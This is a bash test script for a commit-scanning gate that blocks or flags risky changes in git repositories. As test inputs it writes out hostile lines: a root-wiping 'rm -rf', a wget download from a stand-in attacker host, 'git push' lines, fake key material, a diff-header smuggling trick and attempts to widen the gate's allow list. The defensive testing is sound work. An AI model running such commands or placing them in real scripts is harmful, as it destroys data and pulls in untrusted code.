#!/usr/bin/env bash
# gate_cases.sh CASE TT_GATE POLICY — one tt-gate verdict per case, on a throwaway git repo
# with one commit on top of a base. Credential-shaped strings are assembled at run time so
# this file holds none.
set -u
case_=${1:?case}
GATE=${2:?tt-gate}
POL=${3:?policy}
T=$(mktemp -d /tmp/tt-gate-test.XXXXXX)
trap 'rm -rf "$T"' EXIT
fail() { echo "FAIL [$case_]: $*" >&2; cat "$T/out" "$T/err" >&2 2>/dev/null; exit 1; }
cd "$T"
git init -q -b main r && cd r
git config user.email t@example.invalid && git config user.name t
mkdir -p scripts .ci src harness/policy
echo 'echo build' >scripts/build.sh
echo 'int main(void) { return 0; }' >src/main.c
cp "$POL" harness/policy/gate.ini
git add -A && git commit -qm base
commit() { git add -A && git commit -qm change; }
check() { "$GATE" check "$@" main~1..main >"$T/out" 2>"$T/err"; }
expect() { # expect CODE [grep pattern on stdout]
	check
	rc=$?
	[ $rc = "$1" ] || fail "expected exit $1, got $rc"
	[ -z "${2:-}" ] || grep -qE "$2" "$T/out" || fail "stdout lacks /$2/"
}

case $case_ in
pass)
	echo 'int helper(void) { return 1; }' >>src/main.c
	echo 'curl -s http://127.0.0.1:8080/health' >>scripts/build.sh
	commit
	expect 0 'tt-gate: PASS'
	;;
ci)
	echo 'make test' >.ci/run2
	commit
	expect 1 '^REVIEW \.ci/run2: ci: '
	;;
cmake)
	echo 'add_subdirectory(x)' >CMakeLists.txt
	commit
	expect 1 '^REVIEW CMakeLists.txt: cmake-lists'
	;;
git_push)
	printf 'make\ngit push origin main\n' >>scripts/build.sh
	commit
	expect 2 '^BLOCK  scripts/build.sh:3: git-push'
	grep -q '"event":"denied","what":"exec","target":"scripts/build.sh:3","rule":"git-push"' "$T/err" ||
		fail "no denied event"
	;;
rm_rf)
	echo 'rm -rf / --no-preserve-root' >>scripts/build.sh
	commit
	expect 2 'rm-rf-root'
	;;
private_key)
	{ echo "-----BEGIN OPENSSH PRIV""ATE KEY-----"; echo "b3BlbnNzaC1rZXktdjEAAAAA"; echo "-----END OPENSSH PRIV""ATE KEY-----"; } >src/id
	commit
	expect 2 '^BLOCK  src/id:1: private-key-block'
	grep -q 'b3BlbnNz' "$T/out" && fail "the key material was printed"
	grep -q '"what":"credential"' "$T/err" || fail "no denied credential event"
	;;
aws_key)
	echo "key = \"AK""IA$(echo QWERTYUIOPASDFGH)\"" >src/conf.txt
	commit
	expect 2 'aws-access-key-id'
	;;
policy_edit)
	echo 'allow_host = 10.0.0.1' >>harness/policy/gate.ini
	commit
	# Checked with the repository's own (edited) policy: editing it needs review.
	check --policy harness/policy/gate.ini
	rc=$?
	[ $rc = 1 ] || fail "expected 1, got $rc"
	grep -q 'gate-policy: edits the gate' "$T/out" || fail "reason missing"
	;;
fetch)
	echo 'wget -q https://evil.example.com/x.sh -O /tmp/x.sh' >>scripts/build.sh
	commit
	expect 2 "fetch-host: curl/wget to 'evil.example.com'"
	;;
flavor)
	mkdir -p harness/flavor && echo x >harness/flavor/tt_flavor.h
	commit
	expect 2 'BLOCK  harness/flavor/tt_flavor.h: flavor'
	;;
report_only)
	printf 'git push\n' >>scripts/build.sh
	commit
	check --report-only
	[ $? = 0 ] || fail "report-only must exit 0"
	grep -q 'git-push' "$T/out" || fail "report-only must still report"
	;;
fail_closed)
	echo x >>src/main.c
	commit
	"$GATE" check --policy "$POL" main~5..main >"$T/out" 2>"$T/err"
	[ $? = 2 ] || fail "a range git can't diff must block"
	printf '[block.patterns]\nok = a\nbad = (unclosed\n' >"$T/bad.ini"
	"$GATE" check --policy "$T/bad.ini" main~1..main >"$T/out" 2>"$T/err"
	[ $? = 2 ] || fail "a bad policy must block"
	grep -q 'bad.ini:3: \[block.patterns\] bad: expected a POSIX extended regex' "$T/err" ||
		fail "no file:line: $(cat "$T/err")"
	;;
header_smuggle)
	# An added line "++ b/x" shows as "+++ b/x" in the diff: it must still be scanned.
	printf '++ b/x git push\n' >>scripts/build.sh
	commit
	expect 2 'git-push'
	;;
allow_path)
	# A blocked pattern inside an [allow.paths] path: listed as ALLOW, not blocked.
	mkdir -p tests/redteam && printf 'x\ngit push origin main\n' >tests/redteam/case.sh
	commit
	expect 0 '^ALLOW  tests/redteam/case.sh:2: git-push: .*\[allow.paths redteam: red-team'
	grep -q 'BLOCK' "$T/out" && fail "an allowed path was blocked"
	grep -q '"event":"denied"' "$T/err" && fail "a denied event for an allowed path"
	grep -q '0 blocked, 0 for review, 1 allowed' "$T/out" || fail "summary lacks the count"
	;;
allow_elsewhere)
	# The same line outside the allowed paths blocks; a look-alike prefix is not inside.
	mkdir -p tests/redteam-copy && printf 'x\ngit push origin main\n' >tests/redteam-copy/case.sh
	printf 'git push origin main\n' >>scripts/build.sh
	commit
	expect 2 '^BLOCK  scripts/build.sh:2: git-push'
	grep -q '^BLOCK  tests/redteam-copy/case.sh:2: git-push' "$T/out" || fail "look-alike path allowed"
	grep -q '^ALLOW' "$T/out" && fail "ALLOW outside the allowed paths"
	;;
allow_cred)
	# Credentials are not exempt inside an allowed path.
	mkdir -p tests/redteam && echo "k=AK""IA$(echo QWERTYUIOPASDFGH)" >tests/redteam/k.txt
	commit
	expect 2 '^BLOCK  tests/redteam/k.txt:1: aws-access-key-id'
	;;
allow_edit)
	# Editing the allow list needs human review, whichever policy checks the diff; an
	# edit elsewhere in the policy file is not an allow-list change.
	sed -i 's#^redteam = tests/redteam/ |#redteam = tests/ |#' harness/policy/gate.ini
	commit
	check --policy "$POL"
	rc=$?
	[ $rc = 1 ] || fail "expected 1, got $rc"
	grep -q '^REVIEW harness/policy/gate.ini: gate-allow: ' "$T/out" || fail "no gate-allow finding"
	check
	[ $? = 1 ] || fail "own policy: expected 1"
	grep -q 'gate-allow' "$T/out" || fail "own policy: no gate-allow finding"
	echo 'allow_host = 127.0.0.2' >>harness/policy/gate.ini
	commit
	check
	[ $? = 1 ] || fail "policy edit: expected 1"
	grep -q 'gate-allow' "$T/out" && fail "a [net] edit reported as an allow-list change"
	grep -q 'gate-policy' "$T/out" || fail "policy edit not reviewed"
	;;
allow_needs_reason)
	printf '[block.patterns]\nx = git push\n[allow.paths]\nt = tests/\n' >"$T/p.ini"
	"$GATE" check --policy "$T/p.ini" main~1..main >"$T/out" 2>"$T/err"
	[ $? = 2 ] || fail "an allow without a reason must refuse the policy"
	grep -q 'p.ini:4: \[allow.paths\] t: expected GLOB | REASON' "$T/err" || fail "no file:line"
	printf '[block.patterns]\nx = git push\n[allow.paths]\nt = * | everything is fine here\n' >"$T/p.ini"
	"$GATE" check --policy "$T/p.ini" main~1..main >"$T/out" 2>"$T/err"
	[ $? = 2 ] || fail "allowing every path must refuse the policy"
	;;
*)
	echo "unknown case $case_" >&2
	exit 2
	;;
esac
exit 0
